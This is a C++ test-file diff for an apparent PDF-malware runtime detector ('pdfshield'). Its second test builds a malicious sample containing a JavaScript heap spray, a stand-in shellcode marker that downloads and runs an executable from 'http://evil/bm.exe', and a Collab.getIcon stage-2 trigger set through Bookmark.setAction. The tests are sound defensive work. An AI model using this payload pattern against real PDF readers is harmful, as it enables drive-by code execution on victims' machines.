@@ -1,0 +1,104 @@
+// Longitudinal session test: one deployment (detector + reader) processes
+// a long stream of mixed documents, as a desktop deployment would across a
+// workday. Verdicts must match ground truth document by document, state
+// must not bleed between documents, and de-instrumentation bookkeeping
+// must track every benign close.
+#include <gtest/gtest.h>
+
+#include "core/deinstrumentation.hpp"
+#include "core/detector.hpp"
+#include "core/pipeline.hpp"
+#include "corpus/builders.hpp"
+#include "corpus/generator.hpp"
+#include "reader/reader_sim.hpp"
+#include "sys/kernel.hpp"
+
+namespace co = pdfshield::core;
+namespace cp = pdfshield::corpus;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+TEST(Session, FortyMixedDocumentsOneDeployment) {
+  // Non-crashing families only: a crashed reader ends the session, which
+  // is its own (already-tested) scenario.
+  cp::CorpusConfig cfg;
+  cfg.seed = 0x5E55;
+  cfg.frac_crash_plain = cfg.frac_crash_obfuscated = 0;
+  cp::CorpusGenerator gen(cfg);
+
+  sy::Kernel kernel;
+  sp::Rng rng(1);
+  co::RuntimeDetector detector(kernel, rng);
+  co::FrontEnd frontend(rng, detector.detector_id());
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+  co::DeinstrumentationManager manager;
+
+  // Interleave benign and malicious.
+  auto benign = gen.generate_benign_with_js(20);
+  auto malicious = gen.generate_malicious(20);
+  std::size_t correct = 0, total = 0, deinstrumented = 0, expected_alerts = 0;
+
+  for (std::size_t i = 0; i < 20; ++i) {
+    for (int side = 0; side < 2; ++side) {
+      const cp::Sample& s = side == 0 ? benign[i] : malicious[i];
+      co::FrontEndResult fe = frontend.process(s.data);
+      ASSERT_TRUE(fe.ok) << s.name;
+      detector.register_document(fe.record.key, s.name, fe.features);
+      reader.open_document(fe.output, s.name);
+      ASSERT_FALSE(reader.process().crashed()) << s.name;
+      reader.close_document(s.name);
+
+      const bool verdict = detector.verdict(fe.record.key).malicious;
+      const bool expected = s.malicious && s.expect_detectable;
+      if (expected) ++expected_alerts;
+      ++total;
+      if (verdict == expected) {
+        ++correct;
+      } else {
+        ADD_FAILURE() << s.name << " family=" << s.family << " verdict="
+                      << verdict << " expected=" << expected;
+      }
+      if (!verdict && manager.note_benign_open(fe.record.key.combined(), rng)) {
+        ++deinstrumented;
+      }
+    }
+  }
+
+  EXPECT_EQ(correct, total);
+  EXPECT_EQ(detector.alerts().size(), expected_alerts);
+  // Every benign document (and every undetectable noise sample) got
+  // de-instrumented after its clean close.
+  EXPECT_EQ(deinstrumented, total - expected_alerts);
+  // Memory hygiene: closing everything returns the reader near baseline.
+  EXPECT_EQ(reader.open_count(), 0u);
+}
+
+TEST(Session, BookmarkSetActionIsCoveredAtRuntime) {
+  // Table IV's last method: stage-2 installed via Bookmark.setAction.
+  sy::Kernel kernel;
+  sp::Rng rng(2);
+  co::RuntimeDetector detector(kernel, rng);
+  co::FrontEnd frontend(rng, detector.detector_id());
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+
+  const std::string stage2 = "Collab.getIcon(keep.substring(0, 1500));";
+  const std::string script =
+      "var unit = unescape('%u9090%u9090') + "
+      "'SC{DROP:http://evil/bm.exe>c:/bm.exe;EXEC:c:/bm.exe}';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray;"
+      "this.bookmarkRoot.setAction('" + stage2 + "');";
+
+  sp::Rng doc_rng(3);
+  pdfshield::corpus::DocumentBuilder builder(doc_rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(script);
+  co::FrontEndResult fe = frontend.process(builder.build());
+  detector.register_document(fe.record.key, "bookmark.pdf", fe.features);
+  reader.open_document(fe.output, "bookmark.pdf");
+  EXPECT_TRUE(detector.verdict(fe.record.key).malicious);
+  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/bm.exe"));
+}
